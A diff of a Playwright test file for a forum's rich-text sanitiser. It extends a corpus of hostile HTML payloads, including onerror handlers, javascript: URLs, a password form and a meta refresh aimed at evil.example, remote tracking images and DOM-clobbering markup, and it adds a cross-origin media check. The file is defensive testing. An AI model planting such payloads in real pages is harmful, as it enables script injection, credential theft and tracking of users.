@@ -1,7 +1,8 @@
 import { randomUUID } from 'node:crypto';
-import type { BrowserContext, Page } from '@playwright/test';
+import type { Page } from '@playwright/test';
 import type { ApiData } from '@riwaq/api';
 import { expect, test } from '../src/test';
+import { watchOver, type Watched } from '../src/watch-over';
 import { callerOf, forumPath, handsOf, newThread, readThrough, topicPath, unique } from './ways';
 
 /** Ways to run a script, to reach out or to cover the page, by what they try. */
@@ -26,6 +27,7 @@ const HOSTILE: Readonly<Record<string, string>> = {
   form: '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
   base: '<base href="https://evil.example/"><img src="relative.png">',
   meta: '<meta http-equiv="refresh" content="0;url=https://evil.example"><meta name=referrer content=unsafe-url>',
+  'media of other sites': '<img src="https://evil.example/p.gif"><img src="//evil.example/p.gif" alt="x"><video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" controls></audio>',
   'names that shadow': '<img id="location" name="cookie" src="x"><a id=config name=config href=x>x</a><form id=fetch></form>',
   pictures: '<picture><source srcset="https://evil.example/x" onerror=alert(1)><img src=x srcset="https://evil.example/y 1x"></picture><video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
   'mutation by svg and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -44,23 +46,6 @@ const CORPUS = Object.entries(HOSTILE);
 /** Plain texts that look like elements: shown as they are written. */
 const TITLE = '<img src=x onerror=alert(1)>';
 
-interface Watched { ran: string[]; asked: string[] }
-
-/** What runs and what is asked of other places, in every frame and tab of a browser. */
-async function watchOver(context: BrowserContext, origin: string): Promise<Watched> {
-  const watched: Watched = { ran: [], asked: [] };
-  await context.exposeFunction('alert', () => void watched.ran.push('alert'));
-  context.on('dialog', (dialog) => {
-    watched.ran.push(dialog.type());
-    void dialog.dismiss();
-  });
-  context.on('request', (request) => {
-    const url = new URL(request.url());
-    if (url.origin !== origin && !['data:', 'blob:'].includes(url.protocol)) watched.asked.push(request.url());
-  });
-  return watched;
-}
-
 /** What of the rich texts of a page, shown or under work, could run, load, send, cover or take over. */
 const dangers = (page: Page): Promise<string[]> => page.evaluate(() => {
   const found: string[] = [];
@@ -71,6 +56,7 @@ const dangers = (page: Page): Promise<string[]> => page.evaluate(() => {
     if (element.matches('script, style, form, math, template, noscript, textarea, title, xmp, plaintext, select, picture, marquee, details, animate, use, foreignObject')) say(element, 'element');
     for (const { name, value } of element.attributes) {
       if (name.startsWith('on') || name === 'srcdoc' || name === 'srcset' || name === 'formaction') say(element, name);
+      if ((name === 'src' || name === 'poster') && new URL(value, location.href).origin !== location.origin) say(element, `${name} elsewhere`);
       const address = ['href', 'src', 'poster', 'xlink:href'].includes(name) ? new URL(value, location.href) : null;
       if (address && !['http:', 'https:', 'mailto:', 'tel:'].includes(address.protocol)) say(element, `${name} ${address.protocol}`);
       if (name === 'style' && /url\(|expression|behavior/i.test(value)) say(element, 'style');
